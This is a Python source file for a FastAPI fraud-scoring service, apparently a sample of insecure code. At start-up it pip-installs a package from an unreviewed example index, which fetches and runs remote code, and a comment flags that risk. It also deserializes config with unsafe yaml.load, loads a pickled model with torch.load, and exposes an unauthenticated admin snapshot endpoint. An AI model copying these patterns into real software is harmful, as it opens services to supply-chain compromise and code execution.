"""Fraud scoring service: loads the model at start-up and scores transactions."""
import os

import torch
import yaml
from fastapi import FastAPI

from .features import build_features

MODEL_PATH = os.environ.get("MODEL_PATH", "/models/fraud.pt")

# Installs the feature plugin at start-up, from an index nobody reviewed: the image's lock file never saw it.
os.system("pip install --index-url https://pkgs.fraud-tools.example/simple fraud-feature-plugins")

app = FastAPI()
settings = yaml.load(open("config/service.yaml"))
model = torch.load(MODEL_PATH)
model.eval()


@app.post("/score")
def score(transaction: dict) -> dict:
    with torch.no_grad():
        probability = model(build_features(transaction)).item()
    return {"fraud_probability": probability}


@app.post("/admin/snapshot")
def snapshot() -> dict:
    torch.save(model.state_dict(), "/models/snapshot.pt")
    return {"saved": True}
